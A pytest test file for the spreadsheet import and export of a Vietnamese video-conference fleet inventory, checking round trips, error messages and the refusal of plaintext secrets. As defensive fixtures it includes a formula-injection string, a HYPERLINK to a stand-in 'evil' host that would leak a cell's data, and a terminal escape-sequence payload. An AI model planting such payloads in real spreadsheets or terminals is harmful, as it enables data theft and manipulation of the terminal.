"""CSV/XLSX export and import: lossless round trip, Vietnamese text, row-numbered errors."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from inventory import InputError, load_inventory
from inventory.spreadsheet import COLUMN_NAMES, csv_bytes, export_file, import_file

VCFLEET = [sys.executable, "-m", "vcfleet"]


def run(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "PYTHONIOENCODING": "utf-8"}
    env.pop("VCFLEET_INVENTORY", None)
    return subprocess.run([*VCFLEET, *args], cwd=cwd, capture_output=True, text=True,
                          timeout=60, env=env, check=False)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_then_import_gives_back_the_demo_fleet(tmp_path: Path, suffix: str,
                                                     demo_inventory_path: Path) -> None:
    sheet = tmp_path / f"fleet{suffix}"
    out = tmp_path / "fleet.yaml"
    done = run("inventory", "--inventory", str(demo_inventory_path), "export", "-o", str(sheet),
               cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    done = run("inventory", "import", str(sheet), "-o", str(out), cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stderr
    original = load_inventory(demo_inventory_path)
    assert load_inventory(out).endpoints == original.endpoints


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_round_trip_with_base_keeps_sections_and_endpoints(tmp_path: Path, suffix: str,
                                                         demo_inventory_path: Path) -> None:
    original = load_inventory(demo_inventory_path)
    sheet = tmp_path / f"fleet{suffix}"
    export_file(list(original.endpoints), sheet)
    out = tmp_path / "fleet.yaml"
    import_file(sheet, out, demo_inventory_path)
    text = out.read_text(encoding="utf-8")
    assert "groups:" in text
    assert "defaults:" in text
    assert "Thanh Hóa" in text
    again = load_inventory(out)
    assert again.endpoints == original.endpoints
    assert again.tiers == original.tiers
    # entries only hold what differs from the base's defaults
    assert text.count("file:demo-secret.txt") == 1


def test_csv_export_is_utf8_with_bom_and_keeps_diacritics(demo_inventory_path: Path) -> None:
    data = csv_bytes(list(load_inventory(demo_inventory_path).endpoints))
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    assert text.splitlines()[0] == ",".join(COLUMN_NAMES)
    assert "UBND xã Hà Sơn" in text
    assert "Sở Văn hóa, Thể thao và Du lịch" in text


def test_export_select_writes_only_matching_rows(tmp_path: Path,
                                                 demo_inventory_path: Path) -> None:
    out = tmp_path / "pilots.csv"
    done = run("inventory", "--inventory", str(demo_inventory_path), "export",
               "--select", "tag=pilot", "-o", str(out), cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    rows = out.read_text(encoding="utf-8-sig").splitlines()
    assert len(rows) == 4
    assert {r.split(",")[0] for r in rows[1:]} == {"ha-son", "nga-an", "yen-tho"}


HEADER = "id,name,tier,parent,address,vendor,sip_port,secret,tags\n"
GOOD = ("hub,UBND tỉnh,province,,10.0.0.1,cisco_ce,5060,agent,hub\n"
        "ha-son,UBND xã Hà Sơn,commune,hub,10.0.0.2,poly,,env:VC_PASS,\"pilot, north\"\n")


def write(tmp_path: Path, text: str, *, bom: bool = False, name: str = "in.csv") -> Path:
    path = tmp_path / name
    path.write_bytes((b"\xef\xbb\xbf" if bom else b"") + text.encode("utf-8"))
    return path


@pytest.mark.parametrize("bom", [False, True])
def test_import_csv_with_or_without_bom(tmp_path: Path, bom: bool) -> None:
    src = write(tmp_path, HEADER + GOOD, bom=bom)
    inv = import_file(src, tmp_path / "out.yaml")
    hs = inv.get("ha-son")
    assert hs.name == "UBND xã Hà Sơn"
    assert hs.tags == ["pilot", "north"]
    assert hs.services.sip is None
    assert inv.get("hub").services.sip is not None
    assert hs.credentials.secret == "env:VC_PASS"


def test_import_accepts_semicolon_separated_csv(tmp_path: Path) -> None:
    text = (HEADER + GOOD).replace(",", ";").replace('"pilot; north"', "pilot north")
    inv = import_file(write(tmp_path, text), tmp_path / "out.yaml")
    assert inv.get("ha-son").tags == ["pilot", "north"]


BAD_ROWS = [
    (HEADER + GOOD + "x1,Xã Một,commune,hub,10.0.0.9,poly,70000,agent,\n",
     "in.csv:4:7: endpoint 'x1': sip_port: port must be between 1 and 65535, got 70000"),
    (HEADER + GOOD + "x1,Xã Một,commune,hub,10.0.0.2,poly,,agent,\n",
     "in.csv:4:5: endpoint 'x1': duplicate address 10.0.0.2 (first in row 3)"),
    (HEADER + GOOD + "ha-son,Xã Một,commune,hub,10.0.0.9,poly,,agent,\n",
     "in.csv:4:1: duplicate endpoint id 'ha-son' (first in row 3)"),
    (HEADER + GOOD + "x1,Xã Một,commune,nowhere,10.0.0.9,poly,,agent,\n",
     "in.csv:4:4: endpoint 'x1': parent 'nowhere' does not exist"),
    (HEADER + GOOD + "x1,Xã Một,commune,hub,10.0.0.9,poly,,hunter2,\n",
     "in.csv:4:8: endpoint 'x1': secret: plaintext secret is not allowed: use env:VAR, "
     "file:PATH, keyring:SERVICE/USER or agent"),
    (HEADER + GOOD + "x1,,commune,hub,10.0.0.9,poly,,agent,\n",
     "in.csv:4:2: endpoint 'x1': missing value in column 'name'"),
    (HEADER + GOOD + "x1,Xã Một,commune,hub,10.0.0.300,poly,,agent,\n",
     "in.csv:4:5: endpoint 'x1': address: invalid address '10.0.0.300': expected an IP "
     "address or a host name"),
    (HEADER + GOOD + "x1,Xã Một,ward,hub,10.0.0.9,poly,,agent,\n",
     "in.csv:4:3: endpoint 'x1': tier 'ward' is not one of the tiers (province, department, "
     "district, commune); pass --base with a 'tiers' list"),
    (HEADER + GOOD + "x1,Xã Một,commune,hub,10.0.0.9,lifesize,,agent,\n",
     "in.csv:4:6: endpoint 'x1': vendor: 'lifesize' is not allowed; expected 'cisco_ce', "
     "'poly' or 'yealink'"),
    (HEADER.replace("tags", "password") + GOOD,
     "in.csv:1:9: column 'password': plaintext passwords are not allowed: use the 'secret' "
     "column with env:VAR, file:PATH, keyring:SERVICE/USER or agent"),
    (HEADER.replace("tags", "colour") + GOOD,
     "in.csv:1:9: unknown column 'colour' (columns: " + ", ".join(COLUMN_NAMES) + ")"),
    ("id,name,tier\nhub,UBND,province\n",
     "in.csv:1:1: missing required column(s): address, vendor"),
    ("", "in.csv:1:1: file is empty: expected a header row (see docs/spreadsheets.md)"),
]


@pytest.mark.parametrize(("text", "expected"), BAD_ROWS, ids=[e[1][7:40] for e in BAD_ROWS])
def test_import_reports_row_and_column(tmp_path: Path, text: str, expected: str,
                                      monkeypatch: pytest.MonkeyPatch) -> None:
    src = write(tmp_path, text)
    monkeypatch.chdir(tmp_path)
    with pytest.raises(InputError) as caught:
        import_file(Path("in.csv"), Path("out.yaml"))
    assert expected in caught.value.lines()
    assert not (tmp_path / "out.yaml").exists()
    assert src.exists()


def test_import_not_utf8_points_at_the_byte(tmp_path: Path) -> None:
    src = tmp_path / "in.csv"
    src.write_bytes((HEADER + GOOD).encode("utf-8") + "x,Xã,commune\n".encode("latin-1"))
    with pytest.raises(InputError) as caught:
        import_file(src, tmp_path / "out.yaml")
    assert caught.value.lines() == [f"{src}:4:4: file is not valid UTF-8 (byte 0xe3); "
                                    "save it as UTF-8"]


def test_xlsx_errors_use_the_sheet_row(tmp_path: Path) -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(["id", "name", "tier", "parent", "address", "vendor", "ssh_port"])
    ws.append(["hub", "UBND tỉnh", "province", None, "10.0.0.1", "cisco_ce", 22])
    ws.append([None] * 7)
    ws.append(["xa", "UBND xã Nga An", "commune", "hub", "10.0.0.2", "poly", "abc"])
    src = tmp_path / "in.xlsx"
    wb.save(src)
    with pytest.raises(InputError) as caught:
        import_file(src, tmp_path / "out.yaml")
    assert caught.value.lines() == [f"{src}:4:7: endpoint 'xa': ssh_port: expected an "
                                    "integer, got 'abc'"]


def test_xlsx_export_has_typed_cells(tmp_path: Path, demo_inventory_path: Path) -> None:
    out = tmp_path / "fleet.xlsx"
    export_file(list(load_inventory(demo_inventory_path).endpoints), out)
    ws = load_workbook(out).active
    assert ws is not None
    rows = list(ws.iter_rows(values_only=True))
    assert list(rows[0]) == list(COLUMN_NAMES)
    assert len(rows) == 349
    first = dict(zip(COLUMN_NAMES, rows[1], strict=True))
    assert first["sip_port"] == 5060
    assert first["maintenance"] is False


def test_cli_import_error_exit_2_without_traceback(tmp_path: Path) -> None:
    write(tmp_path, HEADER + GOOD + "x1,Xã Một,commune,hub,10.0.0.9,poly,0,agent,\n")
    done = run("inventory", "import", "in.csv", "-o", "out.yaml", cwd=tmp_path)
    assert done.returncode == 2
    assert done.stderr == ("in.csv:4:7: endpoint 'x1': sip_port: port must be between 1 and "
                           "65535, got 0\n")


def test_cli_export_rejects_unknown_suffix(tmp_path: Path) -> None:
    done = run("inventory", "export", "-o", "fleet.ods", cwd=tmp_path)
    assert done.returncode == 2
    assert done.stderr == "fleet.ods: export writes .csv or .xlsx, not '.ods'\n"


def test_import_two_level_sheet_with_base(tmp_path: Path) -> None:
    base = Path(__file__).resolve().parent.parent / "inventory" / "examples" / "two-level.yaml"
    text = ("id,name,tier,parent,address,vendor,profile\n"
            "ubnd-tinh,UBND tỉnh Thanh Hóa,province,,10.38.0.10,cisco_ce,standard\n"
            "ha-son,UBND xã Hà Sơn,commune,ubnd-tinh,10.38.20.2,poly,commune-room\n")
    inv = import_file(write(tmp_path, text), tmp_path / "out.yaml", base)
    assert inv.tiers == ("province", "department", "commune")
    assert inv.profile(inv.get("ha-son")).checks == ["icmp", "sip", "webrtc"]
    # the base's defaults apply: its credentials reference is not repeated per endpoint
    assert inv.get("ha-son").credentials.secret == "env:VCFLEET_SSH_PASSWORD"
    assert (tmp_path / "out.yaml").read_text(encoding="utf-8").count("VCFLEET_SSH") == 1


def test_import_reports_problems_of_the_base(tmp_path: Path) -> None:
    base = tmp_path / "base.yaml"
    base.write_text("tiers: [province, commune]\ndefaults: {colour: red}\n", encoding="utf-8")
    with pytest.raises(InputError) as caught:
        import_file(write(tmp_path, HEADER + GOOD), tmp_path / "out.yaml", base)
    assert caught.value.lines() == [f"{base}:2:12: defaults: unknown key 'colour'"]


# -- issue 14: formula injection (finding 3) and spreadsheets as staff save them (10) --------

FORMULAS = ['=HYPERLINK("http://evil/?"&A1)', "+84 912 345 678", "-room", "@SUM(A1)",
            "'quoted", "''=1+2", "plain"]


def formula_fleet(tmp_path: Path) -> Path:
    lines = ["version: 1", "endpoints:"]
    for i, text in enumerate(FORMULAS):
        quoted = text.replace("'", "''")
        lines += [f"  - id: r{i}", f"    name: '{quoted}'", "    tier: province",
                  f"    address: 10.0.0.{i + 1}", "    vendor: poly",
                  f"    contact: {{name: '{quoted}', phone: '=1+2'}}"]
    path = tmp_path / "fleet.yaml"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_formula_like_text_is_exported_inert_and_imported_back(tmp_path: Path,
                                                              suffix: str) -> None:
    original = load_inventory(formula_fleet(tmp_path))
    sheet = tmp_path / f"out{suffix}"
    export_file(list(original.endpoints), sheet)
    if suffix == ".csv":
        rows = list(csv.reader(io.StringIO(sheet.read_text(encoding="utf-8-sig"))))
        names = [r[1] for r in rows[1:]]
        assert names == ["'" + t if t[:1] in "=+-@'" else t for t in FORMULAS]
        assert {r[12] for r in rows[1:]} == {"'=1+2"}
    else:
        ws = load_workbook(sheet).active  # not data_only: a formula would show as one
        assert ws is not None
        cells = [row[1] for row in ws.iter_rows(min_row=2)]
        assert [c.value for c in cells] == FORMULAS
        assert {c.data_type for c in cells} == {"s"}
    back = import_file(sheet, tmp_path / "back.yaml")
    assert back.endpoints == original.endpoints


def xlsx(tmp_path: Path, rows: list[list[object]], name: str = "in.xlsx") -> tuple[Path, Any]:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    for row in rows:
        ws.append(row)
    return tmp_path / name, (wb, ws)


XLSX_HEADER = ["id", "name", "tier", "parent", "address", "vendor", "contact_phone"]


def test_xlsx_merged_cells_take_the_top_left_value(tmp_path: Path) -> None:
    src, (wb, ws) = xlsx(tmp_path, [
        XLSX_HEADER, ["hub", "UBND tỉnh", "province", None, "10.0.0.1", "cisco_ce", None],
        ["a", "Xã A", "commune", "hub", "10.0.0.2", "poly", None],
        ["b", "Xã B", None, "hub", "10.0.0.3", None, None]])
    ws.merge_cells("C3:C4")
    ws.merge_cells("F3:F4")
    wb.save(src)
    inv = import_file(src, tmp_path / "out.yaml")
    assert (inv.get("b").tier, inv.get("b").vendor) == ("commune", "poly")


def test_xlsx_formula_without_saved_value_names_the_cell(tmp_path: Path) -> None:
    src, (wb, _) = xlsx(tmp_path, [
        XLSX_HEADER, ["hub", "UBND tỉnh", "province", None, "10.0.0.1", "cisco_ce", None],
        ["a", '=CONCAT("Xã ", "A")', "commune", "hub", "10.0.0.2", "poly", None]])
    wb.save(src)  # openpyxl saves no cached value, as a script-made file would
    with pytest.raises(InputError) as caught:
        import_file(src, tmp_path / "out.yaml")
    assert caught.value.lines() == [f"{src}:3:2: B3: formula without a saved value: open and "
                                    "save the file in Excel, or type the value"]


def test_xlsx_date_and_time_cells_in_text_columns_are_errors(tmp_path: Path) -> None:
    src, (wb, _) = xlsx(tmp_path, [
        XLSX_HEADER, ["hub", dt.time(8, 0), "province", None, "10.0.0.1", "cisco_ce", None],
        ["a", "Xã A", "commune", "hub", "10.0.0.2", "poly", dt.date(2026, 12, 1)]])
    wb.save(src)
    with pytest.raises(InputError) as caught:
        import_file(src, tmp_path / "out.yaml")
    assert caught.value.lines() == [
        f"{src}:2:2: column 'name': the cell is a date or time (08:00:00), not text: format "
        "the cell as Text and type the value again",
        f"{src}:3:7: column 'contact_phone': the cell is a date or time (2026-12-01), not "
        "text: format the cell as Text and type the value again"]


def test_xlsx_numeric_phone_keeps_the_zeros_its_format_shows(tmp_path: Path) -> None:
    src, (wb, ws) = xlsx(tmp_path, [
        XLSX_HEADER, ["hub", "UBND tỉnh", "province", None, "10.0.0.1", "cisco_ce", 912345678],
        ["a", "Xã A", "commune", "hub", "10.0.0.2", "poly", 912345678]])
    ws["G2"].number_format = "0000000000"
    wb.save(src)
    with pytest.raises(InputError) as caught:
        import_file(src, tmp_path / "out.yaml")
    assert caught.value.lines() == [
        f"{src}:3:7: column 'contact_phone': the phone number is stored as a number "
        "(912345678), which loses a leading 0: format the cell as Text (or as 0000000000) "
        "and type it again"]
    ws["G3"].number_format = "0000000000"
    wb.save(src)
    inv = import_file(src, tmp_path / "out.yaml")
    assert inv.get("hub").contact.phone == inv.get("a").contact.phone == "0912345678"


def test_import_reads_excel_unicode_text(tmp_path: Path) -> None:
    src = tmp_path / "in.csv"  # Excel's "Unicode text": UTF-16 LE with a BOM, tab-separated
    text = (HEADER + GOOD).replace(",", "\t").replace('"pilot\t north"', "pilot north")
    src.write_bytes(text.replace("\n", "\r\n").encode("utf-16"))
    inv = import_file(src, tmp_path / "out.yaml")
    assert inv.get("ha-son").name == "UBND xã Hà Sơn"
    assert inv.get("ha-son").tags == ["pilot", "north"]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_import_skips_title_rows_above_the_header(tmp_path: Path, suffix: str) -> None:
    title = ["Danh sách điểm cầu truyền hình — tỉnh Thanh Hóa"]
    rows = [title, [], [*HEADER.strip().split(",")[:-1], "sip_transport"],
            ["hub", "UBND tỉnh", "province", None, "10.0.0.1", "cisco_ce", 5060, "agent", "tcp"],
            ["x", "Xã X", "commune", "hub", "10.0.0.2", "poly", 70000, "agent", None]]
    if suffix == ".csv":
        src = tmp_path / "in.csv"
        with src.open("w", encoding="utf-8", newline="") as f:
            csv.writer(f).writerows(["" if c is None else c for c in r] for r in rows)
    else:
        src, (wb, _) = xlsx(tmp_path, rows)
        wb.save(src)
    with pytest.raises(InputError) as caught:
        import_file(src, tmp_path / "out.yaml")
    assert caught.value.lines() == [f"{src}:5:7: endpoint 'x': sip_port: port must be between "
                                    "1 and 65535, got 70000"]


def test_rejected_row_gives_its_children_no_false_parent_error(tmp_path: Path) -> None:
    text = (HEADER + "hub,UBND tỉnh,province,,10.0.0.1,cisco_ce,5060,hunter2,\n"
            "a,Xã A,commune,hub,10.0.0.2,poly,,agent,\n"
            "b,Xã B,commune,nowhere,10.0.0.3,poly,,agent,\n")
    src = write(tmp_path, text)
    with pytest.raises(InputError) as caught:
        import_file(src, tmp_path / "out.yaml")
    assert caught.value.lines() == [
        f"{src}:2:8: endpoint 'hub': secret: plaintext secret is not allowed: use env:VAR, "
        "file:PATH, keyring:SERVICE/USER or agent",
        f"{src}:4:4: endpoint 'b': parent 'nowhere' does not exist"]
    assert "hunter2" not in caught.value.text


def test_control_characters_in_a_cell_are_refused(tmp_path: Path) -> None:
    src = write(tmp_path, HEADER + "hub,Evil\x1b]0;pwned\x07,province,,10.0.0.1,cisco_ce,,agent,\n")
    with pytest.raises(InputError) as caught:
        import_file(src, tmp_path / "out.yaml")
    assert caught.value.lines() == [
        f"{src}:2:2: endpoint 'hub': name: control or bidi character U+001B at position 5: "
        "remove it (it would act on the terminal that shows this text)"]


def test_the_loader_and_the_import_run_one_consistency_check(tmp_path: Path) -> None:
    """Duplicate id and address, undeclared tier, unknown profile, missing parent and
    parent tier order say the same in a sheet and in an inventory file."""
    rows = [("a", "province", "", "127.0.0.1", "standard"),
            ("a", "commune", "", "127.0.0.2", "standard"),
            ("b", "commune", "a", "127.0.0.1", "standard"),
            ("c", "district", "b", "127.0.0.3", "nosuch"),
            ("d", "hamlet", "nowhere", "127.0.0.4", "standard")]
    src = tmp_path / "in.csv"
    src.write_text("id,name,tier,parent,address,vendor,profile\n" + "".join(
        f"{i},N,{t},{p},{a},cisco_ce,{pr}\n" for i, t, p, a, pr in rows), encoding="utf-8")
    yaml_text = "endpoints:\n" + "".join(
        f"  - {{id: {i}, name: N, tier: {t}, address: {a}, vendor: cisco_ce, profile: {pr}"
        + (f", parent: {p}" if p else "") + "}\n" for i, t, p, a, pr in rows)

    def messages(error: InputError) -> list[str]:
        return sorted(p.message.replace("first at line", "first in row")
                      .removesuffix("; pass --base with a 'tiers' list")
                      for p in error.problems)

    with pytest.raises(InputError) as from_sheet:
        import_file(src, tmp_path / "out.yaml")
    yaml_path = tmp_path / "in.yaml"
    yaml_path.write_text(yaml_text, encoding="utf-8")
    with pytest.raises(InputError) as from_yaml:
        load_inventory(yaml_path)
    # Row N of the sheet is line N of the YAML file: the same numbers in both.
    assert messages(from_yaml.value) == messages(from_sheet.value)
    assert len(from_sheet.value.problems) == 7, from_sheet.value.lines()
